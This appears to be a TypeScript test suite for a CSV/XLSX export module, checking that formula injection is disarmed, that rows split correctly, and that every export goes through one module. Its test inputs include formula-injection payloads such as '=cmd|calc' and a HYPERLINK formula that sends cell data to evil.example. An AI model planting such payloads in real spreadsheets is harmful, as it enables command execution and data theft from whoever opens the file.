import { execFileSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import ExcelJS from 'exceljs'
import { parse } from 'csv-parse/sync'
import { type SheetContent, writeCsv, writeXlsx } from '../../server/kernel/writeSheet'

/** What a program of sheets takes for a formula, by its first letter. */
const FORMULAS = ['=cmd|calc', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠1', '=HYPERLINK("http://evil.example/?"&A1)']
const content = (): SheetContent => ({
  name: '=name', cover: '=cover', heads: FORMULAS.map(title => ({ title, width: 10 })),
  rows: (async function* () { yield [FORMULAS, FORMULAS.map(() => -5)] })(),
})
async function whole(pieces: AsyncIterable<Buffer>): Promise<Buffer> {
  const all: Buffer[] = []
  for await (const piece of pieces) all.push(piece)
  return Buffer.concat(all)
}

it('disarms every formula in csv, in heads and in rows, and leaves numbers as they are', async () => {
  const [heads, cells, numbers] = parse(await whole(writeCsv(content())), { bom: true }) as string[][]
  for (const row of [heads!, cells!]) expect(row).toEqual(FORMULAS.map(text => `'${text.replace(/^\n/, '')}`))
  expect(new Set(numbers)).toEqual(new Set(['-5']))
})

it('ends a row of csv where the row ends, not where a line of a text does', async () => {
  const texts = ['第一行\n=cmd|calc', '第一行\r=cmd|calc', '第一行\r\n=cmd|calc', '"\n=1', 'a,b']
  const rows = (async function* () { yield texts.map(text => [text, '后']) })()
  const bytes = await whole(writeCsv({ ...content(), heads: [{ title: '甲', width: 9 }, { title: '乙', width: 9 }], rows }))
  expect(parse(bytes, { bom: true, record_delimiter: '\r\n' })).toEqual([['甲', '乙'], ...texts.map(text => [text, '后'])])
  const bare = bytes.toString().replace(/"(?:[^"]|"")*"/g, '')
  expect(bare.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
})

it('writes text as text in a workbook: no cell of it is a formula', async () => {
  const book = new ExcelJS.Workbook()
  const bytes = await whole(writeXlsx(content()))
  await book.xlsx.load(bytes as never)
  const cells: ExcelJS.Cell[] = []
  book.worksheets[0]!.eachRow(row => row.eachCell(cell => void cells.push(cell)))
  expect(cells).toHaveLength(1 + 3 * FORMULAS.length)
  expect(cells.filter(cell => cell.formula || ![ExcelJS.ValueType.String, ExcelJS.ValueType.Number].includes(cell.type))).toEqual([])
})

it('is the only way in which a sheet leaves', () => {
  const files = execFileSync('git', ['ls-files', '-co', '--exclude-standard', 'server', 'admin'], { encoding: 'utf8' }).split('\n').filter(file => /\.(ts|tsx|cjs|mjs)$/.test(file))
  const knows = (words: RegExp): string[] => files.filter(file => words.test(readFileSync(file, 'utf8')))
  expect(knows(/(from|require\() ?'(csv-stringify|papaparse|jsonexport|react-admin-import-csv)/)).toEqual(['server/kernel/writeSheet.ts'])
  expect(knows(/(from|require\() ?'exceljs/)).toEqual(['server/kernel/sheetWorker.cjs'])
  expect(knows(/'text\/csv/)).toEqual(['server/kernel/writeSheet.ts'])
  // react-admin would write one in the browser, unless every list says otherwise.
  expect(knows(/\bdownloadCSV\b|<ExportButton[^>]*from 'react-admin'|\bdefaultExporter\b/)).toEqual([])
})
